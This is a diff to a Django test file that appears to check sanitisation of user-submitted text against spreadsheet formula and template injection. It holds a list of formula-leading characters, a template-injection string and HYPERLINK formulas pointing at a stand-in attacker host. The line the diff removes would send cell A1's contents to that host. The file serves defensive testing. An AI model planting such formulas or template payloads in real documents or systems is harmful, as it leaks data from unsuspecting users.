@@ -21,7 +21,7 @@ from tests.samples import client_of
 
 pytestmark = pytest.mark.django_db
 FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "'")
-FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"clic")'
+FORMULA = '=HYPERLINK("https://evil.example";"ok")'
 TEMPLATE = "{{ 6|add:36 }}{% now 'Y' %}{# via #}%(title)s%s{0.__class__}$title"
 
 
@@ -39,7 +39,7 @@ def world(text: str) -> Submission:
     )
     indicator = {
         "name": text,
-        "unit": text,
+        "unit": text[:40],
         "baseline": None,
         "target": None,
         "direction": "up",
